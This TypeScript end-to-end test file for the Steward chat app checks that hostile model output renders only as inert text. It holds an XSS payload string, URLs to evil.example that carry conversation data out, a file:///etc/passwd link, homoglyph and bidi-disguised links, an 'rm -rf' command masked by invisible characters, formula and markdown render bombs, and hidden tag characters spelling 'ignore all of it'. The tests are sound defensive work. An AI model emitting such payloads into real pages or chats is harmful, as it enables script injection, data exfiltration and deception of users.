import { randomBytes } from 'node:crypto'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { importConversations } from '#shared/contract/chatLibrary.ts'
import { windowKeyHeader } from '#shared/contract/localApi.ts'
import { plantText, readFiles, searchFor } from '../support/assertions/canarySecrets.ts'
import { eventually, until } from '../support/assertions/eventually.ts'
import { chatGptConversation, chatGptNode } from '../support/fixtures/chatExports.ts'
import { createProviderServer, type ProviderServer, providerKeys } from '../support/models/providerServer.ts'
import { chatUsage, type ScriptedPart, sse } from '../support/models/scriptedAnswer.ts'
import { type ChatScreen, openChat } from './pages/chatScreen.ts'
import { pictures } from './pages/pictures.ts'
import { ownStewardInBrowser, type StewardInBrowser } from './pages/stewardInBrowser.ts'

/**
 * Output of a model or provider is untrusted text and must only be rendered: its scripts do not run, requests go only
 * to Steward, nothing is painted outside the message, and the window stays responsive.
 */
let app: StewardInBrowser
let providers: ProviderServer
const look = pictures()

beforeAll(async () => {
  providers = await createProviderServer()
  const { baseUrl, apiKey } = providers.providerOf('d')
  app = await ownStewardInBrowser({
    config: { inference: { families: { d: { base_url: baseUrl, api_key: apiKey } } } },
  })
})
afterAll(async () => {
  await app?.close()
  await providers?.close()
})
beforeEach(() => providers.clear())

const usage = { input: 1_000, cacheRead: 0, cacheWrite5m: 0, cacheWrite1h: 0, output: 50, reasoning: 0 }
const chunk = (delta: object, finish: string | null = null) =>
  sse({
    id: 'c',
    object: 'chat.completion.chunk',
    created: 1,
    model: 'm',
    choices: [{ index: 0, delta, finish_reason: finish }],
  })

/** Streams text in large chunks without pauses. */
function streamText(text: string, pieceLength = 20_000) {
  const frames = [chunk({ role: 'assistant', content: '' })]
  for (let offset = 0; offset < text.length; offset += pieceLength)
    frames.push(chunk({ content: text.slice(offset, offset + pieceLength) }))
  const last = { id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [] }
  return { frames: [...frames, chunk({}, 'stop'), sse({ ...last, usage: chatUsage(usage) }), sse('[DONE]')] }
}

type Hostile = { chat: ChatScreen; page: Page; staysInside(): Promise<void> }

/** Opens a new chat in a window that records its requests and the scripts that ran. */
async function hostileChat(): Promise<Hostile> {
  const window = await app.window()
  const { page } = window
  const foreign: string[] = []
  const ownHost = new URL(app.steward.url).host
  const asks = (url: string) => {
    const { protocol, host } = new URL(url)
    if (protocol !== 'data:' && host !== ownHost) foreign.push(url)
  }
  page.on('request', (request) => asks(request.url()))
  page.on('websocket', (socket) => asks(socket.url()))
  page.on('popup', (popup) => foreign.push(`popup ${popup.url()}`))
  page.on('dialog', (dialog) => {
    foreign.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  const chat = await openChat(window)
  await chat.newChat()
  await chat.composer.getByRole('button', { name: /^Model:/ }).click()
  await page.getByRole('option', { name: /^kimi-k2\.5/ }).click()
  const title = await page.title()
  return {
    chat,
    page,
    async staysInside() {
      const strangers =
        'script, iframe, frame, object, embed, form, link, meta, base, style, video, audio, source, portal'
      const within = chat.root.locator(`:is(${strangers}):not(form[aria-label="New message"])`)
      expect(await within.evaluateAll((all) => all.map((it) => it.outerHTML.slice(0, 200)))).toEqual([])
      const images = await chat.root.locator('img').evaluateAll((all) => all.map((it) => it.getAttribute('src')))
      expect(images.filter((it) => !it?.startsWith('data:image/png;base64,'))).toEqual([])
      const handlers = await chat.root
        .locator('*')
        .evaluateAll((all) =>
          all.flatMap((element) =>
            element.getAttributeNames().filter((name) => name.startsWith('on') || name === 'srcdoc'),
          ),
        )
      expect(handlers).toEqual([])
      expect(await page.evaluate('window.pwned')).toBeUndefined()
      expect(await page.title()).toBe(title)
      expect(foreign).toEqual([])
      // The window is still responsive.
      await chat.write('Still here')
      expect(await chat.composer.locator('textarea').inputValue()).toBe('Still here')
      await chat.write('')
    },
  }
}

/** Does not wait for the message, which may be out of view when its completion starts. */
async function begin(chat: ChatScreen, text: string): Promise<void> {
  await chat.write(text)
  await chat.composer.getByRole('button', { name: 'Send' }).click()
}

const run = 'window.pwned=1'
const secret = 'the-conversation'
const evil = `https://evil.example/?q=${secret}`
const markup = `<script>${run}</script><img src="${evil}" onerror="${run}"><iframe srcdoc="<script>parent.${run}</script>"></iframe><style>@import "${evil}"; body{display:none}</style><form action="${evil}"><input name=a autofocus onfocus="${run}"><button>Send</button></form><svg onload="${run}"><image href="${evil}"/></svg><meta http-equiv=refresh content="0;url=${evil}"><base href="${evil}"><link rel=stylesheet href="${evil}"><object data="${evil}"></object><video src="${evil}" autoplay></video><details open ontoggle="${run}"><a href="javascript:${run}">x</a>`

const images = [evil, '//evil.example/a.png', 'http://evil.example/b.png', `javascript:${run}`, 'file:///etc/passwd']
const calls = `${markup}

<div>
${markup}
</div>

- ${markup}

> ${markup}

| ${markup.replaceAll('|', '')} | b |
|---|---|
| ${markup} | \`${markup}\` |

${images.map((url) => `![picture](${url}) ![r](<${url}> "t") [![in a link](${url})](${url})`).join('\n')}
![svg](data:image/svg+xml,%3Csvg%20onload=%22${encodeURIComponent(run)}%22%3E) ![html](data:text/html,<script>${run}</script>)
![ref][evil] [text][evil] [^1] ![blob](blob:${evil}) ![ws](ws://evil.example/) ![srcset](x"onerror="${run})
[view](view-source:https://evil.example) [own](/local/wallet) [place](#/wallet) [vb](vbscript:${run}) [data](data:text/html;base64,PHNjcmlwdD4=)
[newline](java\nscript:${run}) [entity](&#106;avascript:${run}) [tab](java&#9;script:${run}) <javascript:${run}>

[evil]: ${evil}
[^1]: ${markup}

\`\`\`html
${markup}
\`\`\`

\`\`\`${markup}
code
\`\`\`
`

test('renders markup and URLs of replies and reasoning as text without requests', async () => {
  const { chat, page, staysInside } = await hostileChat()
  providers.play({ parts: [{ thinking: `${calls}\nThought.` }, { text: `${calls}\nThe end.` }], usage })
  await begin(chat, `${markup} What does it do?`)
  await chat.answered('The end.')
  await chat.answers.getByRole('button', { name: /^(Reasoning|Thought)/ }).click()
  await chat.answers.getByText('Thought.').waitFor()
  const schemes = await chat.answers
    .getByRole('link')
    .evaluateAll((all) => [...new Set(all.map((it) => new URL((it as HTMLAnchorElement).href).host))])
  expect(schemes).toEqual(['evil.example'])
  await staysInside()
  await look(page, 'chat-hostile-markup', ['dark'])
})

test('shows the target of a link whose text names another host', async () => {
  const { chat, page, staysInside } = await hostileChat()
  const disguises = [
    '[https://bank.example](https://evil.example/1)',
    '[https://bank.example@evil.example/2](https://bank.example@evil.example/2)',
    '<https://bank.example@evil.example/3>',
    'https://bank.example:443@evil.example/4 as it stands',
    '[bank.exam\u200bple](https://evil.example/5)',
    '[\u202eelpmaxe.knab//:sptth\u202c](https://evil.example/6)',
    '\u202e [https://evil.example/7](https://evil.example/7) \u202c',
    '[https://bаnk.example/8](https://bаnk.example/8)', // the second letter is Cyrillic
    '[https://bank.example\\@evil.example/9](https://bank.example\\@evil.example/9)',
    '[https://bank.example%2f@evil.example/10](https://bank.example%2f@evil.example/10)',
    '[pay@bank.example](mailto:pay@evil.example)',
    `![https://bank.example/12](${'https://evil.example/12'})`,
  ]
  providers.play(streamText(`${disguises.join('\n\n')}\n\nThe end.`))
  await chat.send('Where do they lead?')
  await chat.answered('The end.')
  const links = await chat.answers.getByRole('link').evaluateAll((all) =>
    all.map((element) => {
      const link = element as HTMLAnchorElement
      const beside = link.querySelector('.link-host') ?? link.nextElementSibling
      const host = link.protocol === 'mailto:' ? link.pathname : link.host
      const whole = link.textContent === link.href || link.textContent === host
      return { host, isPlain: whole || beside?.textContent?.trim() === `(${host})` }
    }),
  )
  expect(links.length).toBe(disguises.length)
  expect(links.filter(({ isPlain }) => !isPlain)).toEqual([])
  expect(links.map(({ host }) => host).filter((host) => !/evil\.example$|^xn--/.test(host))).toEqual([])
  // Bidirectional controls must not affect Steward's description of a link.
  const turned = await chat.answers
    .locator('a, .link-host')
    .evaluateAll((all) => all.filter((element) => !getComputedStyle(element).unicodeBidi.startsWith('isolate')).length)
  expect(turned).toBe(0)
  await staysInside()
  await look(page, 'chat-hostile-links', ['light'])
})

test('reveals hidden characters in code and in tool arguments', async () => {
  const { chat, page, staysInside } = await hostileChat()
  const code = 'rm -rf ./build\u202e/ # \u2066safe\u2069\u200b'
  const name = 'look\u202efile<b>'
  const args = JSON.stringify({ command: code, url: markup })
  const call: ScriptedPart = { call: name, id: 'c1', args }
  await chat.composer.getByRole('button', { name: 'Tools off' }).click()
  await page.getByRole('menuitemradio', { name: 'On', exact: true }).click()
  providers.play(
    {
      parts: [{ text: `\`\`\`sh\n${code}\n\`\`\`\n\nor \`${code}\`` }, call, { call: 'constructor', id: 'c2', args }],
      usage,
    },
    { parts: [{ text: 'The end.' }], usage },
  )
  await chat.send('How do I clean up?')
  await chat.answered('The end.')
  const displayed = 'rm -rf ./build⟨U+202E⟩/ # ⟨U+2066⟩safe⟨U+2069⟩⟨U+200B⟩'
  await chat.answers.locator('.code-block').getByText(displayed).waitFor()
  await chat.answers.locator('.markdown p code').getByText(displayed, { exact: true }).waitFor()
  await chat.answers.getByRole('group', { name: 'constructor: Failed' }).waitFor()
  const card = chat.answers.getByRole('group', { name: 'look_file_b_: Failed' })
  await card.getByRole('button').first().click()
  await card.getByRole('group', { name: 'Arguments' }).getByText(displayed).waitFor()
  expect(await card.textContent()).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b]/)
  // Copying yields the model's text verbatim, after a warning.
  await chat.answers.getByRole('button', { name: 'Copy', exact: true }).first().click()
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(code)
  await staysInside()
  await look(page, 'chat-hostile-characters', ['dark'])
})

test('formulas cannot link or load, expand endlessly or cover other content', async () => {
  const { chat, page, staysInside } = await hostileChat()
  const nest = (before: string, after: string, times: number) => `${before.repeat(times)}x${after.repeat(times)}`
  const formulas = [
    `\\href{javascript:${run}}{x} \\url{${evil}} \\includegraphics[width=9em]{${evil}} \\htmlStyle{position:fixed}{y}`,
    `\\htmlId{root}{x} \\htmlClass{fixed}{y} \\htmlData{a=b}{z}`,
    '\\def\\a{\\a\\a}\\a',
    `\\def\\a{${'x'.repeat(1_900)}}${'\\a'.repeat(900)}`,
    `\\def\\a#1{#1#1}${nest('\\a{', '}', 40)}`,
    nest('{', '}', 2_400),
    nest('\\frac{1}{', '}', 500),
    nest('\\sqrt{', '}', 700),
    nest('\\left(', '\\right)', 350),
    `${'\\rm'.repeat(1_600)} x`,
    `x${'^{x'.repeat(1_200)}${'}'.repeat(1_200)}`,
    '\\rule{100000em}{100000em}',
    '\\kern-60em\\raisebox{20em}{\\raisebox{20em}{\\colorbox{red}{\\rule{90em}{90em}}}}',
    '\\hspace{-60em}\\smash{\\rule[-20em]{90em}{90em}}\\llap{\\rule{90em}{20em}}',
  ]
  const text = formulas
    .map((formula) => `$$\n${formula}\n$$\n\nin a line $${formula.slice(0, 900)}$ of text`)
    .join('\n\n')
  providers.play(streamText(`${text}\n\nThe end.`))
  await begin(chat, 'Draw them')
  await chat.answered('The end.')
  await chat.answers.locator('.katex').first().waitFor()
  expect(await chat.answers.locator('.katex a, .katex img, .katex [id], .katex [data-a]').count()).toBe(0)
  expect(await chat.answers.locator('*').count()).toBeLessThan(100_000)
  const cover = '$x\\kern-6em\\smash{\\raisebox{3em}{\\rule{15em}{2em}}}$'
  providers.play(streamText(`Read this.\n\nBefore this comes a formula: ${cover} behind.\n\nRead on.`))
  await begin(chat, 'Now cover what is above')
  await chat.answered('Read on.')
  await chat.answers.last().locator('.katex').waitFor()
  // Each element is clipped to its box and each message to its own, so no label is covered.
  const loose = await chat.answers
    .locator('.markdown, .formula, .formula-display')
    .evaluateAll((all) => all.filter((value) => getComputedStyle(value).overflow.includes('visible')).length)
  expect(loose).toBe(0)
  await staysInside()
  await look(page, 'chat-hostile-formulas', ['dark'])
})

const million = 1_000_000
test.each([
  ['a block of code in one line of 2 MB', `\`\`\`js\n${'let a = "b"; '.repeat((2 * million) / 13)}\n\`\`\``],
  ['a block of code that never ends', `\`\`\`js\n${'let a = "b"\n'.repeat(20_000)}`],
  ['one word of 2 MB', 'a'.repeat(2 * million)],
  ['a table of 10,000 cells', `|${'a|'.repeat(100)}\n|${'-|'.repeat(100)}\n${`|${'b|'.repeat(100)}\n`.repeat(100)}`],
  ['a table of 10,000 columns', `|${'a|'.repeat(10_000)}\n|${'-|'.repeat(10_000)}\n|${'b|'.repeat(10_000)}\n`],
  ['quotations 5,000 deep', `${'>'.repeat(5_000)} deep`],
  ['lists 5,000 deep in a line', `${'- '.repeat(5_000)}deep`],
  [
    'lists 1,000 deep in lines',
    Array.from({ length: 1_000 }, (_, depth) => `${' '.repeat(2 * depth)}- ${depth}`).join('\n'),
  ],
  [
    'emphasis and brackets that never close',
    `${'*_[`<a$'.repeat(5_000)}\n\n${'[a]('.repeat(5_000)}\n\n${'![['.repeat(5_000)}`,
  ],
  ['20,000 links and references', `${'[a][b] <https://evil.example/> '.repeat(20_000)}\n\n[b]: https://evil.example/`],
  [
    '100,000 marks that stack',
    `Z${'\u0300\u0301\u0489'.repeat(33_000)}\n\n\`\`\`\nZ${'\u0300'.repeat(50_000)}\n\`\`\``,
  ],
])('renders %s in short steps without blocking the window', async (_, text) => {
  const { chat, staysInside } = await hostileChat()
  providers.play(streamText(text), { parts: [{ text: 'Good bye.' }], usage })
  await begin(chat, 'Go')
  const answer = chat.answers.last().and(chat.root.locator('[aria-busy="false"]'))
  await answer.waitFor()
  const drawn = await answer.evaluate((value) => {
    const texts = document.createTreeWalker(value, NodeFilter.SHOW_TEXT)
    const [lengths, stacks] = [[0], [0]]
    while (texts.nextNode()) {
      const text = texts.currentNode.nodeValue ?? ''
      lengths.push(text.length)
      stacks.push(...(text.match(/\p{M}+/gu) ?? []).map(({ length }) => length))
    }
    const measureDepth = (element: Element | null): number =>
      element === value || !element ? 0 : 1 + measureDepth(element.parentElement)
    return {
      // Syntax colors are added later, line by line.
      elements: value.querySelectorAll(':not([class^="tok-"])').length,
      longest: lengths.reduce((max, each) => Math.max(max, each)),
      marks: stacks.reduce((max, each) => Math.max(max, each)),
      depth: Array.from(value.querySelectorAll('*')).reduce((max, each) => Math.max(max, measureDepth(each)), 0),
    }
  })
  expect(drawn.elements).toBeLessThan(25_000)
  expect(drawn.longest).toBeLessThanOrEqual(16_000)
  expect(drawn.marks).toBeLessThanOrEqual(6)
  expect(drawn.depth).toBeLessThan(100)
  await staysInside()
  await chat.send('And now?')
  await chat.answered('Good bye.')
})

test('reports hidden text in a reply and in pasted input', async () => {
  const { chat } = await hostileChat()
  const unseen = [...'ignore all of it'].map((value) => String.fromCodePoint(0xe0000 + value.charCodeAt(0))).join('')
  providers.play(streamText(`It is **fine**.${unseen} The end.`))
  await begin(chat, `Sum this up: a page${unseen}`)
  await chat.answered('The end.')
  await chat.answers.getByText('⟨16 hidden characters⟩').waitFor()
  await chat.root.getByText('a page⟨16 hidden characters⟩').waitFor()
})

test('renders a large table in parts and can show all of it', async () => {
  const { chat, page } = await hostileChat()
  const columns = 20
  const line = (cell: string) => `|${`${cell}|`.repeat(columns)}\n`
  providers.play(streamText(`${line('a')}${line('-')}${line('b').repeat(500)}`))
  await begin(chat, 'A table')
  await chat.answers.last().and(chat.root.locator('[aria-busy="false"]')).waitFor()
  const cells = chat.answers.last().locator('td')
  expect(await cells.count()).toBe(1_500)
  const more = page.getByRole('button', { name: /^Show more rows/ })
  expect(await more.textContent()).toBe('Show more rows (425 left)')
  for (const count of [3_000, 6_000, 10_000]) {
    await more.click()
    await until(`${count} cells are drawn`, async () => (await cells.count()) === count)
  }
  expect(await more.count()).toBe(0)
})

test('shows a chat title as one line of plain text everywhere', async () => {
  const { chat, page, staysInside } = await hostileChat()
  const id = randomBytes(6).toString('hex')
  const key = await page.evaluate(() => localStorage.getItem('steward.window-key') ?? '')
  const imported = await page.request.post(`${new URL(page.url()).origin}${importConversations.path}`, {
    headers: { [windowKeyHeader]: key, 'content-type': 'application/json' },
    data: JSON.stringify([
      {
        ...chatGptConversation(),
        id,
        conversation_id: id,
        title: `${id} \u202e\u2066${markup.slice(0, 120)}`,
        mapping: { a: chatGptNode('a', 'root', 'user', markup), b: chatGptNode('b', 'a', 'assistant', calls) },
        current_node: 'b',
      },
    ]),
  })
  expect(imported.status()).toBe(201)
  await chat.listed(id).click()
  const heading = chat.root.getByRole('heading', { name: id })
  await heading.waitFor()
  expect(await heading.textContent()).toContain(`${id} <script>${run}</script><img src=`)
  expect(await heading.textContent()).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/)
  await chat.root.getByRole('searchbox', { name: 'Search chats' }).fill('pwned')
  await chat.root.getByRole('list', { name: 'Matches' }).locator('mark').first().waitFor()
  await chat.root.getByRole('searchbox', { name: 'Search chats' }).fill('')
  await staysInside()
})

test('shows a provider error as text without the API key', async () => {
  const { chat, page, staysInside } = await hostileChat()
  const { moonshot: providerKey = '' } = providerKeys
  const heard: string[] = []
  page.on('response', async (response) => {
    const text = await response.text().catch(() => '')
    if (text.includes(providerKey)) heard.push(response.url())
  })
  const said = `No. ${markup} Key ${providerKey}, Bearer ${providerKey}; ${encodeURIComponent(providerKey)}`
  const turns = [
    { status: 400, body: { error: { message: said, type: said, code: said, param: said } } },
    {
      status: 401,
      body: { error: { message: said } },
      headers: { 'www-authenticate': `Bearer realm="${providerKey}"` },
    },
    { status: 500, body: said },
    { frames: [chunk({ content: 'Begun' }), sse({ error: { message: said, code: said } })] },
  ]
  const errors = chat.answers.getByRole('group', { name: 'Error' })
  for (const [index, turn] of turns.entries()) {
    providers.playAlways(() => turn)
    await chat.send(`Try ${index}`)
    await eventually(async () => expect(await errors.count()).toBe(index + 1))
    await staysInside()
    expect(await page.content()).not.toContain(providerKey)
  }
  await look(page, 'chat-hostile-refusals', ['dark'])
  expect(heard).toEqual([])
  const search = searchFor([plantText('the key of the provider', providerKey)])
  const files = readFiles(app.steward.dataFolder).filter(({ where }) => !where.endsWith('config.json'))
  expect(files.flatMap(search)).toEqual([])
})
